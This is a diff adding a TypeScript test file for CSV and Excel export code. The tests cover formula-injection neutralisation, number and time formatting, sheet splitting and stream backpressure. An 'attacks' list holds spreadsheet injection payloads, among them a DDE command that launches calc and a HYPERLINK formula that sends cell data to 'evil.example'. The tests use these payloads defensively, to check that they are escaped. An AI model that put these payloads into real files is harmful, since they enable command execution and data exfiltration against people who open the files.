@@ -1,0 +1,202 @@
+import { buffer } from "node:stream/consumers";
+import { parse } from "csv-parse/sync";
+import readXlsxFile from "read-excel-file/node";
+import { describe, expect, it } from "vitest";
+import { cellText } from "./cell-text.ts";
+import { csvFile } from "./csv-file.ts";
+import type { Cell, Column, Table } from "./table.ts";
+import { createWallClock } from "./wall-clock.ts";
+import { xlsxFile } from "./xlsx-file.ts";
+
+const columns: Column[] = [
+  { header: "Outlet", kind: "text", width: 20 },
+  { header: "Amount", kind: "money", width: 12 },
+  { header: "Orders", kind: "count", width: 8 },
+  { header: "Time", kind: "time", width: 20 },
+];
+const at = Date.UTC(2026, 10, 21, 14, 3, 5);
+
+async function* each(rows: readonly (readonly Cell[])[]) {
+  yield* rows;
+}
+const tableOf = (rows: readonly (readonly Cell[])[]): Table => ({
+  name: "Orders",
+  columns,
+  rows: each(rows),
+});
+
+const readCsv = async (rows: readonly (readonly Cell[])[]): Promise<string[][]> =>
+  parse(await buffer(csvFile(tableOf(rows))), { bom: true });
+const readXlsx = async (rows: readonly (readonly Cell[])[], most?: number) =>
+  readXlsxFile(await buffer(xlsxFile(tableOf(rows), most)));
+
+/** What a guest, a manager, a chair or an importer may have put into a text. */
+const attacks = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(A1)",
+  "=cmd|' /C calc'!A0",
+  "|calc",
+  "\t=1+1",
+  "\r=1+1",
+  "\n@x",
+  "\thidden tab",
+  "   =1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "\u0000=1+1",
+  "＝1+1",
+  "　＋1",
+  "－1",
+  "＠SUM(A1)",
+  "﹦1+1",
+  "−1+1",
+  '=HYPERLINK("http://evil.example?"&A1,"click")',
+  'Spa;=HYPERLINK("http://evil.example")',
+  'Spa; "=1+1',
+  "E7\r\n=1+1",
+  '"=1+1',
+];
+/** Where a text would begin once a spreadsheet has cut the line or stripped what it does not show. */
+const begins = (text: string) =>
+  text.split(/[;\r\n]/).map((part) => part.replace(/^[\s\p{Cc}\p{Cf}"]+/u, ""));
+const marks = /^[=+\-@|＝＋－＠﹦﹢﹣﹫｜−]/u;
+
+describe("a text in a file for spreadsheets", () => {
+  it.each(attacks)("[G-9] stays a text: %j", async (text) => {
+    const rows = [[text, -100, -1, at]] as const;
+    const [, csv] = (await readCsv(rows)) as [string[], string[]];
+    const [sheet] = await readXlsx(rows);
+    const read = String(sheet?.data[1]?.[0]);
+    expect(csv[0]).toBe(read);
+    for (const part of begins(read)) expect(part).not.toMatch(marks);
+    expect(read).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
+    // Figures are figures, below nothing too.
+    expect(csv.slice(1, 3)).toEqual(["-1.00", "-1"]);
+    expect(sheet?.data[1]?.slice(1, 3)).toEqual([-1, -1]);
+  });
+
+  it.each([
+    "Glorietta Spa 100%",
+    "C-4F2A",
+    "商場 B1－2樓",
+    "O'Neil & Sons <b>",
+    "a,b",
+    'say "hi"',
+    "12:30",
+    "_x0041_",
+    "",
+  ])("[ORD-1] is left as it is where it is harmless: %j", async (text) => {
+    const rows = [[text, 0, 0, null]] as const;
+    expect((await readCsv(rows))[1]?.[0]).toBe(text);
+    const [sheet] = await readXlsx(rows);
+    expect(sheet?.data[1]?.[0] ?? "").toBe(text);
+  });
+
+  it("is cut where a cell ends, and never within a character", () => {
+    expect(cellText("字".repeat(40_000))).toHaveLength(32_767);
+    expect(cellText(`a${"𠮷".repeat(20_000)}`)).toHaveLength(32_767);
+    expect(cellText("𠮷".repeat(20_000))).toHaveLength(32_766);
+    expect(cellText("half \ud842 of one")).toBe("half   of one");
+  });
+});
+
+describe("a table as a file", () => {
+  const rows = [
+    ["Ayala Center", 123_450, 3, at],
+    ["Gaisano", -5, 0, null],
+    [null, 2_500_000, 1, at + 1000],
+  ] as const;
+
+  it("[I18N-3] is CSV in UTF-8 with a mark, decimal numbers and readable times", async () => {
+    const text = (await buffer(csvFile(tableOf(rows)))).toString();
+    expect(text).toBe(
+      "\ufeffOutlet,Amount,Orders,Time\r\nAyala Center,1234.50,3,2026-11-21 14:03:05\r\nGaisano,-0.05,0,\r\n,25000.00,1,2026-11-21 14:03:06\r\n",
+    );
+  });
+
+  it("[I18N-3] is a workbook whose figures can be added and whose times are times", async () => {
+    const [sheet] = await readXlsx(rows);
+    expect(sheet?.sheet).toBe("Orders");
+    // Days with a fraction, as spreadsheets count them, come back a hair off.
+    const toTheSecond = (cell: unknown) =>
+      cell instanceof Date ? Math.round(cell.getTime() / 1000) * 1000 : cell;
+    expect(sheet?.data.map((row) => row.map(toTheSecond))).toEqual([
+      ["Outlet", "Amount", "Orders", "Time"],
+      ["Ayala Center", 1234.5, 3, at],
+      ["Gaisano", -0.05, 0, null],
+      [null, 25_000, 1, at + 1000],
+    ]);
+  });
+
+  it("goes on in a further sheet, headings again, where one is full", async () => {
+    const many = Array.from({ length: 7 }, (_, index) => [`Outlet ${index}`, index, index, null]);
+    const sheets = await readXlsx(many, 4);
+    expect(sheets.map(({ sheet, data }) => [sheet, data.length, data[0]?.[0], data.at(-1)?.[0]])).toEqual([
+      ["Orders", 4, "Outlet", "Outlet 2"],
+      ["Orders_2", 4, "Outlet", "Outlet 5"],
+      ["Orders_3", 2, "Outlet", "Outlet 6"],
+    ]);
+  });
+
+  it("has its headings where it has no rows", async () => {
+    expect(await readCsv([])).toEqual([["Outlet", "Amount", "Orders", "Time"]]);
+    expect((await readXlsx([]))[0]?.data).toEqual([["Outlet", "Amount", "Orders", "Time"]]);
+  });
+
+  it.each([
+    ["csv", csvFile],
+    ["xlsx", xlsxFile],
+  ])(
+    "as %s reads no row before it is wanted, and lets go of them when nobody wants more",
+    async (_format, make) => {
+      let read = 0;
+      let released = false;
+      async function* endless() {
+        try {
+          for (;;) {
+            read += 1;
+            yield [`Outlet ${Math.random()}`, read, 1, at];
+            // As a database lets others in between.
+            if (read % 100 === 0) await new Promise(setImmediate);
+          }
+        } finally {
+          released = true;
+        }
+      }
+      const reader = make({ name: "Orders", columns, rows: endless() }).getReader();
+      await reader.read();
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      const before = read;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      expect(read).toBe(before);
+      expect(read).toBeLessThan(50_000);
+      await reader.cancel();
+      await expect.poll(() => released).toBe(true);
+    },
+  );
+
+  it("that breaks off on the way says so instead of ending early", async () => {
+    async function* broken() {
+      yield ["Outlet", 1, 1, at];
+      throw new Error("the database went away");
+    }
+    for (const make of [csvFile, xlsxFile])
+      await expect(buffer(make({ name: "Orders", columns, rows: broken() }))).rejects.toThrow("went away");
+  });
+});
+
+describe("a clock on the wall", () => {
+  it("[DAY-1] shows a zone's own time, with its changes of the hour", () => {
+    const shown = (zone: string, iso: string) => new Date(createWallClock(zone)(new Date(iso))).toISOString();
+    expect(shown("Asia/Manila", "2026-11-20T16:00:00.001Z")).toBe("2026-11-21T00:00:00.001Z");
+    expect(shown("-03:30", "2026-11-20T03:29:59.999Z")).toBe("2026-11-19T23:59:59.999Z");
+    const berlin = createWallClock("Europe/Berlin");
+    const hours = ["2026-10-25T00:59:59Z", "2026-10-25T01:00:00Z", "2026-10-24T23:00:00Z"].map((iso) =>
+      new Date(berlin(new Date(iso))).toISOString().slice(11, 19),
+    );
+    expect(hours).toEqual(["02:59:59", "02:00:00", "01:00:00"]);
+  });
+});
